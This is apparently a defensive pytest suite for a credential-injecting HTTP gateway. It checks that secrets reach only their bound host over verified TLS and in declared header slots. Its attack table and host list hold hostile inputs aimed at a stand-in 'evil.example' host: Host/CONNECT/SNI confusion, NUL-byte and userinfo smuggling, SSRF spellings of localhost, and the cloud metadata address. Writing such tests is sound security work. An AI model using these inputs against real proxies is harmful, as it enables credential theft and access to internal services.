"""P2: a secret goes to a host it is bound to, over verified TLS, in a slot it is declared for.

`evil` is a service that can be reached through the gateway and is bound to nothing; it keeps
every byte it gets. What must be refused is refused before a byte of it leaves.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.beds.certificates import BedAuthority
from tests.behaviour import h2agent
from tests.behaviour.agent import Answer
from tests.behaviour.ground import Ground, Holding, Witness, stored
from tests.behaviour.tap import Loop
from tests.behaviour.wiretap import NONE, NOTHING, PLAIN

GOOD, EVIL, PLAIN_EVIL = "api.good.example", "evil.example", "plain-evil.example"
SECRET, OTHER = "real-secret-of-the-good-host-0001", "real-secret-of-another-host-0002"


class Field:
    """Good, evil, a stranger with the wrong certificate, and the gateway between them."""

    def __init__(self, at: Path, loop: Loop, authority: BedAuthority) -> None:
        name = authority.issue("localhost")
        self.good = Witness(loop, tls=name)
        self.evil = Witness(loop, tls=name)
        self.evil_plain = Witness(loop)
        self.impostor = Witness(loop, tls=authority.issue("impostor.example"))
        self.hidden = Witness(loop)
        ups = {
            GOOD: self.good.url,
            EVIL: self.evil.url,
            PLAIN_EVIL: self.evil_plain.url,
            "impostor.good.example": self.impostor.url,
            "api.openai.com": self.evil.url,
            "www.googleapis.com": self.good.url,
        }
        self.world = Ground(
            at, loop, ups, config=f"upstream_ca: {authority.certificate_file}",
            holdings=[
                Holding(name="good", source=stored(SECRET), host=GOOD),
                Holding(name="impostor", source=stored(OTHER), host="impostor.good.example"),
                Holding(name="keyed", source=stored(OTHER[::-1]), host=GOOD, slots=("header:x-api-key",)),
            ],
        ).open()  # fmt: skip

    @property
    def witnesses(self) -> list[Witness]:
        return [self.good, self.evil, self.evil_plain, self.impostor, self.hidden]

    def strangers_know_nothing(self) -> bool:
        """No byte of a secret came to any but the good host; none of anything to the impostor."""
        for witness in self.witnesses[1:]:
            for secret in (SECRET, OTHER, OTHER[::-1]):
                coded = base64.b64encode(f"x:{secret}".encode())[4:-4]
                if secret.encode() in witness.raw or coded in witness.raw:
                    return False
        return not self.impostor.raw and not self.hidden.raw

    def close(self) -> None:
        self.world.close()
        for witness in self.witnesses:
            witness.close()


@pytest.fixture(scope="module")
def _field(
    tmp_path_factory: pytest.TempPathFactory, tap_loop: Loop, bed_authority: BedAuthority
) -> Iterator[Field]:
    made = Field(tmp_path_factory.mktemp("field"), tap_loop, bed_authority)
    made.world.start()
    yield made
    made.close()


@pytest.fixture
def field(_field: Field) -> Iterator[Field]:
    for witness in _field.witnesses:
        witness.clear()
    yield _field
    assert _field.strangers_know_nothing()


def get(field: Field, target: str = "/", *more: str, host: str = GOOD, name: str = "good") -> str:
    """A GET with a placeholder; `name` "": without. `host` "": no Host field."""
    lines = [f"GET {target} HTTP/1.1", *([f"Host: {host}"] if host else []), *more]
    if name:
        lines.append(f"Authorization: Bearer {field.world.placeholder(name)}")
    return "\r\n".join(lines) + "\r\n\r\n"


def test_the_real_secret_arrives_at_the_host_it_is_bound_to(field: Field) -> None:
    assert field.world.raw(get(field), tunnel=f"{GOOD}:443").status == 200
    assert f"Bearer {SECRET}".encode() in field.good.raw
    assert field.world.placeholder("good").encode() not in field.good.raw


type Attack = Callable[[Field], Answer]
ATTACKS: dict[str, Attack] = {
    "absolute URI of evil, Host good": lambda f: f.world.raw(get(f, f"http://{PLAIN_EVIL}/")),
    "absolute URI of good, Host evil": lambda f: f.world.raw(get(f, f"http://{GOOD}/", host=PLAIN_EVIL)),
    "absolute https URI of evil, Host good": lambda f: f.world.raw(get(f, f"https://{EVIL}/")),
    "CONNECT evil, Host good": lambda f: f.world.raw(get(f), tunnel=f"{EVIL}:443"),
    "CONNECT good, Host evil": lambda f: f.world.raw(get(f, host=EVIL), tunnel=f"{GOOD}:443"),
    "CONNECT evil, SNI and Host good": lambda f: f.world.raw(get(f), tunnel=f"{EVIL}:443", sni=GOOD),
    "CONNECT good, SNI evil": lambda f: f.world.raw(get(f), tunnel=f"{GOOD}:443", sni=EVIL),
    "CONNECT evil, no SNI, Host good": lambda f: f.world.raw(get(f), tunnel=f"{EVIL}:443", sni=NONE),
    "CONNECT good, no SNI": lambda f: f.world.raw(get(f), tunnel=f"{GOOD}:443", sni=NONE),
    "plain text in CONNECT evil:80": lambda f: f.world.raw(get(f), tunnel=f"{PLAIN_EVIL}:80", sni=PLAIN),
    "plain text in CONNECT good:443": lambda f: f.world.raw(get(f), tunnel=f"{GOOD}:443", sni=PLAIN),
    "plain text in CONNECT good:80": lambda f: f.world.raw(get(f), tunnel=f"{GOOD}:80", sni=PLAIN),
    "absolute URI of evil inside the tunnel to good": lambda f: f.world.raw(
        get(f, f"https://{EVIL}/"), tunnel=f"{GOOD}:443"
    ),
    "two Host fields": lambda f: f.world.raw(get(f, "/", f"Host: {EVIL}"), tunnel=f"{GOOD}:443"),
    "two Host fields outside": lambda f: f.world.raw(get(f, f"http://{PLAIN_EVIL}/", f"Host: {PLAIN_EVIL}")),
    "another port in Host": lambda f: f.world.raw(get(f, host=f"{GOOD}:8443"), tunnel=f"{GOOD}:443"),
    "a downgrade to http": lambda f: f.world.raw(get(f, f"http://{GOOD}/")),
    "https on port 80": lambda f: f.world.raw(get(f, host=f"{GOOD}:80"), tunnel=f"{GOOD}:80", sni=GOOD),
    "another port of good": lambda f: f.world.raw("", tunnel=f"{GOOD}:8443"),
    "user information before evil": lambda f: f.world.raw(get(f, f"http://{GOOD}@{PLAIN_EVIL}/", host=PLAIN_EVIL)),
    "user information in Host": lambda f: f.world.raw(get(f, host=f"{GOOD}@{EVIL}"), tunnel=f"{EVIL}:443"),
    "user information in CONNECT": lambda f: f.world.raw("", tunnel=f"{GOOD}@{EVIL}:443"),
    "a NUL in Host": lambda f: f.world.raw(get(f, host=f"{EVIL}\0.{GOOD}"), tunnel=f"{EVIL}:443"),
    "a NUL in CONNECT": lambda f: f.world.raw("", tunnel=f"{EVIL}\0.{GOOD}:443"),
    "CONNECT and its Host differ": lambda f: f.world.raw(
        get(f), tunnel=f"{EVIL}:443", connect=f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {GOOD}:443\r\n\r\n"
    ),
    "CONNECT inside a tunnel": lambda f: f.world.raw(
        f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n", tunnel=f"{GOOD}:443", method="CONNECT"
    ),
    "a fragment that hides evil": lambda f: f.world.raw(get(f, f"http://{PLAIN_EVIL}#@{GOOD}/")),
    "a backslash in the authority": lambda f: f.world.raw(get(f, f"http://{PLAIN_EVIL}\\@{GOOD}/")),
    "our placeholder towards evil": lambda f: f.world.raw(get(f, host=EVIL), tunnel=f"{EVIL}:443"),
    "towards a name that ends as the good one": lambda f: f.world.raw(
        get(f, host=f"evil{GOOD}"), tunnel=f"evil{GOOD}:443"
    ),
    "towards a child of the good name": lambda f: f.world.raw(
        get(f, host=f"x.{GOOD}"), tunnel=f"x.{GOOD}:443"
    ),
    "a wrong certificate": lambda f: f.world.raw(
        get(f, host="impostor.good.example", name="impostor"), tunnel="impostor.good.example:443"
    ),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_says_two_destinations_or_a_wrong_one_is_refused(field: Field, attack: str) -> None:
    answer = ATTACKS[attack](field)
    assert answer is NOTHING or answer.status in (400, 403, 421, 502), (attack, answer)
    assert SECRET.encode() not in field.good.raw
    assert not field.evil.raw + field.evil_plain.raw, "something was sent"


ODD_HOSTS = (
    "2130706433", "127.1", "0177.0.0.1", "0x7f.0.0.1", "0x7f000001", "127.0.0.1.", "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]", "[::1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "0", "0.0.0.0", "127.0.0.\xb9", "\xb9\xb2\xb7.0.0.1",
    "localhost", "localhost.", "LOCALHOST", "169.254.169.254", "[fe80::1%25lo]", "127.0.0.1%00.good.example",
)  # fmt: skip


@pytest.mark.parametrize("name", ["good", ""])
@pytest.mark.parametrize("host", ODD_HOSTS)
def test_no_spelling_of_this_machine_is_reached(field: Field, host: str, name: str) -> None:
    port = field.hidden.port
    answer = field.world.raw(get(field, f"http://{host}:{port}/", host="", name=name))
    assert answer.status in (400, 403, 421, 502), answer
    tunnelled = field.world.raw("", tunnel=f"{host}:{port}", sni=PLAIN)
    assert tunnelled.status in (400, 403, 421), tunnelled


def test_a_name_of_this_machine_is_dialled_by_nobody_and_the_refusal_says_why(field: Field) -> None:
    url = f"http://localhost:{field.hidden.port}/"
    answer = field.world.raw(get(field, url, host="", name=""))
    assert "this machine" in answer.goex["reason"]
    assert f"list localhost:{field.hidden.port} under network.allow" in answer.goex["reason"]


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "0.0.0.0"])
def test_the_gateway_does_not_call_itself(field: Field, host: str) -> None:
    url = f"http://{host}:{field.world.proxy[1]}/x"
    answer = field.world.raw(get(field, url, host="", name=""))
    assert answer.status == 502
    assert "come back to this proxy" in answer.goex["reason"]


@pytest.mark.parametrize("spelling", [GOOD.upper(), f"{GOOD}.", f"{GOOD}:443", "Api.Good.Example."])
def test_harmless_spellings_of_the_bound_host_work(field: Field, spelling: str) -> None:
    bare = spelling.removesuffix(":443")
    answer = field.world.raw(get(field, host=spelling), tunnel=f"{bare}:443", sni=bare.rstrip("."))
    assert answer.status == 200
    assert f"Bearer {SECRET}".encode() in field.good.raw
    assert f"\r\nHost: {GOOD}\r\n".encode() in field.good.raw


def test_a_wrong_certificate_is_told_and_nothing_was_sent(field: Field) -> None:
    answer = field.world.raw(
        get(field, host="impostor.good.example", name="impostor"),
        tunnel="impostor.good.example:443",
    )
    assert answer.status == 502
    assert "certificate" in answer.body.decode().lower()
    assert not field.impostor.raw


# -- HTTP/2


def h2(field: Field, authority: str, *, tunnel: str = GOOD, sni: str | None = None, **more: str) -> tuple[int, bytes]:  # fmt: skip
    fields = [("authorization", f"Bearer {field.world.placeholder('good')}"), *more.items()]
    return h2agent.get(field.world.proxy, f"{tunnel}:443", sni or tunnel, authority, fields)


def test_over_http2_the_secret_arrives_and_only_at_its_host(field: Field) -> None:
    assert h2(field, GOOD)[0] == 200
    assert f"{SECRET}".encode() in field.good.raw


@pytest.mark.parametrize(
    ("authority", "tunnel", "more"),
    [
        (EVIL, GOOD, {}),
        (GOOD, EVIL, {}),
        (GOOD, GOOD, {"host": EVIL}),
        (EVIL, GOOD, {"host": GOOD}),
        (f"{GOOD}@{EVIL}", EVIL, {}),
        (f"{GOOD}:8443", GOOD, {}),
        (EVIL, EVIL, {}),
    ],
)
def test_over_http2_authority_host_and_tunnel_must_agree(
    field: Field, authority: str, tunnel: str, more: dict[str, str]
) -> None:
    status, _ = h2(field, authority, tunnel=tunnel, **more)
    assert status in (0, 400, 403, 421)
    assert SECRET.encode() not in field.good.raw + field.evil.raw
    assert not field.evil.raw


# -- slots


def post(field: Field, path: str, body: bytes, *more: str, host: str = GOOD) -> str:
    lines = [f"POST {path} HTTP/1.1", f"Host: {host}", "Content-Type: application/json"]
    lines += [f"Content-Length: {len(body)}", *more]
    return "\r\n".join(lines) + "\r\n\r\n" + body.decode()


def test_a_placeholder_in_a_body_is_never_swapped(field: Field) -> None:
    held = field.world.placeholder("good")
    body = f'{{"text": "{held}", "auth": "Bearer {held}"}}'.encode()
    auth = f"Authorization: Bearer {held}"
    answer = field.world.raw(post(field, "/api/chat.postMessage", body, auth), tunnel=f"{GOOD}:443")
    entry = field.world.act("approve", id=answer.entry)
    assert entry["state"] == "applied", entry
    assert field.good.raw.count(SECRET.encode()) == 1, "in its slot, and nowhere else"
    assert body in bytes(field.good.raw)


def test_a_placeholder_in_a_conversation_with_a_model_is_inert(field: Field) -> None:
    held = field.world.placeholder("good")
    body = f'{{"model": "m", "messages": [{{"role": "user", "content": "{held}"}}]}}'.encode()
    answer = field.world.raw(
        post(field, "/v1/chat/completions", body, host="api.openai.com"),
        tunnel="api.openai.com:443",
    )
    assert answer.status == 200, answer.body
    assert body in bytes(field.evil.raw)


@pytest.mark.parametrize(
    "line",
    [
        "Authorization: Bearer {good}", "Authorization: Basic {basic}", "X-Api-Key: {good}",
        "Authorization: token {good}", "Private-Token: {good}",
    ],
)  # fmt: skip
def test_a_placeholder_in_an_auth_slot_of_another_host_is_refused(field: Field, line: str) -> None:
    held = field.world.placeholder("good")
    basic = base64.b64encode(f"x-access-token:{held}".encode()).decode()
    wire = f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n{line.format(good=held, basic=basic)}\r\n\r\n"
    answer = field.world.raw(wire, tunnel=f"{EVIL}:443")
    assert answer.status == 403
    assert f"not bound to {EVIL}" in answer.goex["reason"]
    assert not field.evil.raw


@pytest.mark.parametrize(
    ("lines", "why"),
    [
        (["Authorization: Bearer {good}", "X-Api-Key: {keyed}"], "two different credentials"),
        (["X-Api-Key: {good}"], "slot header:x-api-key"),
        (["Authorization: Bearer {keyed}"], "slot bearer"),
    ],
)
def test_two_placeholders_or_a_wrong_slot_are_refused(
    field: Field, lines: list[str], why: str
) -> None:
    names = {name: field.world.placeholder(name) for name in ("good", "keyed")}
    said = "\r\n".join(lines).format(**names)
    answer = field.world.raw(
        f"GET / HTTP/1.1\r\nHost: {GOOD}\r\n{said}\r\n\r\n", tunnel=f"{GOOD}:443"
    )
    assert answer.status == 403
    assert why in answer.goex["reason"]
    assert not field.good.raw


def test_a_placeholder_in_a_query_or_a_cookie_is_not_swapped(field: Field) -> None:
    held = field.world.placeholder("good")
    for line in (f"GET /?access_token={held} HTTP/1.1\r\nHost: {GOOD}", f"GET / HTTP/1.1\r\nHost: {GOOD}\r\nCookie: t={held}"):  # fmt: skip
        field.world.raw(f"{line}\r\n\r\n", tunnel=f"{GOOD}:443")
    assert SECRET.encode() not in field.good.raw


# -- time


def test_a_revoked_credential_is_refused_and_a_rotated_one_scrubs_its_old_value(
    tmp_path: Path, tap_loop: Loop, bed_authority: BedAuthority
) -> None:
    async def echo(head: bytes, body: bytes, writer: object) -> None:
        said = f"{SECRET} and {OTHER}".encode()
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(said), said))  # type: ignore[attr-defined]

    good = Witness(tap_loop, echo, bed_authority.issue("localhost"))
    world = Ground(
        tmp_path, tap_loop, {GOOD: good.url}, config=f"upstream_ca: {bed_authority.certificate_file}",
        holdings=[Holding(name="good", source=stored(SECRET), host=GOOD)],
    ).open()  # fmt: skip
    try:
        world.start()
        vault = world.home.vault()
        vault.rotate(world.credentials["good"].id, stored(OTHER))
        world.act("refresh")
        answer = world.call("GET", f"https://{GOOD}/", headers=world.bearer("good"))
        assert OTHER.encode() in good.raw
        assert SECRET.encode() not in good.raw
        held = world.placeholder("good").encode()
        assert answer.body == held + b" and " + held
        vault.revoke(world.credentials["good"].id)
        vault.close()
        world.act("refresh")
        good.clear()
        refused = world.call("GET", f"https://{GOOD}/", headers=world.bearer("good"))
        assert (refused.status, refused.goex["reason"]) == (403, "the credential good was revoked: do not retry; tell your user: `goex secret rotate good` gives it a new value")  # fmt: skip
        assert not good.raw
        innocent = world.call("GET", f"https://{GOOD}/")
        assert innocent.body == held + b" and " + held, "revoked values are scrubbed, too"
    finally:
        world.close()
        good.close()


# -- our own client


def test_our_own_reads_follow_no_redirect(field: Field, tmp_path: Path, tap_loop: Loop) -> None:
    """The before-image of an issue is answered by a redirect: the secret must not travel on."""
    evil = Witness(tap_loop)

    async def astray(head: bytes, body: bytes, writer: object) -> None:
        where = f"Location: {evil.url}/\r\n".encode()
        writer.write(b"HTTP/1.1 302 Found\r\n" + where + b"Content-Length: 0\r\n\r\n")  # type: ignore[attr-defined]

    good = Witness(tap_loop, astray)
    world = Ground(
        tmp_path, tap_loop, {"api.github.com": good.url, EVIL: evil.url},
        holdings=[Holding(name="github", source=stored(SECRET), host="api.github.com")],
    ).open()  # fmt: skip
    try:
        world.start()
        url = "https://api.github.com/repos/a/b/issues/1"
        answer = world.call("PATCH", url, json={"title": "t"}, headers=world.bearer("github"))
        assert answer.status == 403
        assert b"GET /repos/a/b/issues/1 " in good.raw
        assert b"PATCH" not in good.raw
        assert not evil.raw
        assert evil.connections == 0
    finally:
        world.close()
        good.close()
        evil.close()


def test_the_control_socket_is_not_reached_over_http(field: Field) -> None:
    assert field.world.home.socket.stat().st_mode & 0o777 == 0o600
    answer = field.world.raw(get(field, "http://localhost/actions/approve", host=""))
    assert answer.status in (400, 403, 421, 502)
